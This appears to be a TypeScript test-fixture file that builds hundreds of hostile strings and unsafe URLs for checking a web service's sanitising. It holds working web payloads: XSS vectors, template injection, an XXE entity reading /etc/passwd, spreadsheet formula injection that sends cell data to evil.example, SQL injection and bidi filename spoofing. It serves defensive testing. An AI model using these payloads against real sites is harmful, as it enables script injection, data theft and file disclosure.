// Harmful texts that a service could send: 500 of them, and 120 dangerous addresses.

/** What a script would call if it ran. There is no such function, so a call is an uncaught error. */
const RUNS = 'hostileRan()';

const handlers =
  'load error click focus mouseover toggle animationstart begin pointerenter beforeinput'.split(' ');
const carriers = 'img svg details input video iframe body marquee select math'.split(' ');

const elements = carriers.flatMap((name) =>
  handlers.map((handler) => `<${name} hostile src=x open autofocus on${handler}=${RUNS}>`),
);

const scripts = [
  `<script hostile>${RUNS}</script>`,
  `<script hostile src=https://evil.example/a.js></script>`,
  `</script><script hostile>${RUNS}</script>`,
  `</title></style></textarea><script hostile>${RUNS}</script>`,
  `<ScRiPt hostile type=module>${RUNS}</sCrIpT>`,
  `<svg hostile><script>${RUNS}</script></svg>`,
  `<svg hostile><a xlink:href="javascript:${RUNS}"><text>x</text></a></svg>`,
  `<svg hostile><foreignObject><iframe srcdoc="<script>${RUNS}</script>"></foreignObject></svg>`,
  `<svg hostile><use href="data:image/svg+xml,<svg onload=${RUNS}>"></svg>`,
  `<math hostile><mtext><table><mglyph><style><img src onerror=${RUNS}></style></mglyph></table></mtext></math>`,
  `<template hostile><script>${RUNS}</script></template>`,
  `<iframe hostile srcdoc="&lt;script&gt;${RUNS}&lt;/script&gt;"></iframe>`,
  `<object hostile data="javascript:${RUNS}"></object>`,
  `<embed hostile src="javascript:${RUNS}">`,
  `<base hostile href="https://evil.example/">`,
  `<meta hostile http-equiv=refresh content="0;url=https://evil.example/">`,
  `<link hostile rel=stylesheet href=https://evil.example/a.css>`,
  `<style hostile>*{display:none!important}</style>`,
  `<form hostile action="https://evil.example/"><button>OK</button></form>`,
  `<a hostile href="javascript:${RUNS}">OK</a>`,
  `<button hostile formaction="javascript:${RUNS}">OK</button>`,
  `"><img hostile src=x onerror=${RUNS}>`,
  `' autofocus onfocus=${RUNS} hostile='`,
  `" autofocus onfocus=${RUNS} hostile="`,
  `\`\${${RUNS}}\``,
  `{{${RUNS}}}`,
  `{{constructor.constructor('${RUNS}')()}}`,
  `<%= ${RUNS} %>`,
  `#{${RUNS}}`,
  `$1 $& $\` $' %s %d %o %c __MSG_@@extension_id__`,
  `&lt;script hostile&gt;${RUNS}&lt;/script&gt;`,
  `&#60;img hostile src=x onerror=${RUNS}&#62;`,
  `\\u003cimg hostile src=x onerror=${RUNS}\\u003e`,
  `<!--><img hostile src=x onerror=${RUNS}>-->`,
  `<![CDATA[<img hostile src=x onerror=${RUNS}>]]>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x hostile>&e;</x>`,
  `[OK](javascript:${RUNS})`,
  `[OK][a]\n\n[a]: <javascript:${RUNS}> "x"`,
  `![OK](https://evil.example/a.png)[![x](data:text/html,${RUNS})](vbscript:${RUNS})`,
  `[<img hostile src=x onerror=${RUNS}>](https://evil.example/"onmouseover=${RUNS})`,
  `**<script hostile>${RUNS}</script>** \`\`\`<img hostile src=x onerror=${RUNS}>`,
  `- <iframe hostile src=x>\n> <https://user:password@evil.example/> javascript:${RUNS}`,
  '{"__html":"<img hostile src=x onerror=hostileRan()>"}',
  '[object Object]',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '0x10',
  'true',
  ' ',
];

const bidi = [
  '\u202a',
  '\u202b',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u200f',
  '\u061c',
  '\u202e\u2067',
].flatMap((mark) => [
  `${mark}gpj.exe`,
  `safe${mark}txt.exe`,
  `${mark}${mark}${mark}moc.elpmaxe`,
  `a${mark}`,
  `${mark}שלום 12 (x)`,
]);

const unseen = [
  '\u200b',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u034f',
  '\u180e',
  '\u3164',
  '\u{e0001}',
  '\u{e0041}',
  '\ufe0f',
  '\u{e0100}',
  '\u115f',
  '\u2800',
  '\u0085',
].flatMap((mark) => [`Pay${mark}Pal`, mark, `${mark.repeat(40)}x`]);

export const formulas = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', ' =', ';=', '",="', '|='].flatMap(
  (start) => [
    `${start}HYPERLINK("https://evil.example/?"&A1,"OK")`,
    `${start}cmd|' /C calc'!A0`,
    `${start}1+1`,
    `${start}IMPORTXML("https://evil.example","//a")`,
  ],
);

const odd = [
  '\ud800',
  '\udc00x',
  'x\ud83d',
  '\udc00\ud800',
  'a\u0000b',
  '\u0000',
  '\u0001\u0002\u0008\u001b[31m',
  '\u001b]8;;https://evil.example\u0007',
  '\u007f',
  '\uffff',
  '\ufffe',
  '\u2028x\u2029',
  '\r\n\r\nx-api-key: a',
  // A font without these marks draws each as wide as a letter, with no place to break between them.
  `Z${'\u0335\u0352\u0489'.repeat(6)}`,
  `${'\u0300'.repeat(200)}`,
  '꧅'.repeat(20),
  '﷽'.repeat(20),
  '👩‍👩‍👧‍👦'.repeat(20),
  'W'.repeat(2000),
  'wide '.repeat(400),
  `${'a/'.repeat(500)}`,
  '<'.repeat(1000),
  '\n'.repeat(200),
  '\t'.repeat(200),
  'ß'.repeat(300),
  'ﬃ'.repeat(300),
  'İ'.repeat(50),
  '(((((((((((((((((((((((((((((a',
  '.*+?^$}{()|[]\\',
  "'; DROP TABLE pages; --",
];

/** One after the other from every kind, so that a few in a row are of several. */
function mixed(kinds: string[][]): string[] {
  const longest = Math.max(...kinds.map(({ length }) => length));
  return Array.from({ length: longest }).flatMap((_, at) => kinds.flatMap((kind) => kind.slice(at, at + 1)));
}

const own = mixed([scripts, bidi, formulas, elements, unseen, odd]);
/** The rest: elements behind what ends an attribute, a tag or a comment. */
const broken = ['">', "'>", '-->', '</style>', ']]>'].flatMap((end) =>
  elements.map((element) => end + element),
);

export const vectors = [...own, ...broken].slice(0, 500);

const TO_A_VALUE = 8;

/** The same 500, several to a value, because visiting all views takes long and each shows a field once. */
export const packed = Array.from({ length: Math.ceil(vectors.length / TO_A_VALUE) }, (_, at) =>
  vectors.slice(at * TO_A_VALUE, (at + 1) * TO_A_VALUE).join(' '),
);

const js = `javascript:${RUNS}`;
const schemes =
  'data vbscript file blob filesystem chrome chrome-extension moz-extension about view-source ftp ftps ws wss intent tel sms mailto market itms steam ssh git svn ldap gopher telnet news nntp irc magnet bitcoin skype zoommtg slack vscode ms-settings ms-word search-ms cid mid jar resource res feed wyciwyg livescript mocha x-javascript ecmascript android-app ios-app content shell mk ms-its hcp help'.split(
    ' ',
  );

export const unsafeAddresses = [
  js,
  js.toUpperCase(),
  `JaVaScRiPt:${RUNS}`,
  ...['\t', '\n', '\r', '\u0000', '\u0001', ' ', '\u00a0', '\ufeff', '\u200b', '\u001f'].map(
    (mark) => mark + js,
  ),
  ...['\t', '\n', '\r', '\u0000', '\u00ad'].map((mark) => `java${mark}script:${RUNS}`),
  `javascript&colon;${RUNS}`,
  `javascript&#58;${RUNS}`,
  `java&Tab;script:${RUNS}`,
  `javascript%3A${RUNS}`,
  `//evil.example\\@good.example`,
  `javascript://good.example/%0A${RUNS}`,
  `javascript:/*https://good.example*/${RUNS}`,
  `data:text/html,<script>${RUNS}</script>`,
  `data:text/html;base64,PHNjcmlwdD5ob3N0aWxlUmFuKCk8L3NjcmlwdD4=`,
  `data:image/svg+xml,<svg onload=${RUNS}>`,
  'blob:https://good.example/1',
  'filesystem:https://good.example/temporary/a',
  'view-source:https://good.example',
  'https://good.example@evil.example/',
  'https://user:password@evil.example/',
  'https://good.example%2f@evil.example/',
  'http://a:b@evil.example',
  'https://:@evil.example:x/',
  'https://',
  'https:///',
  'http://[::1',
  'https://exa mple.com/',
  'https://a\u0000b.example/',
  '//evil.example/a',
  '/\\evil.example',
  '\\\\evil.example\\share',
  'evil.example/path',
  '?javascript:1',
  `#${js}`,
  ...schemes.map((scheme) => `${scheme}:${RUNS}`),
  ...schemes.slice(0, 12).map((scheme) => `${scheme}://evil.example/${RUNS}`),
];
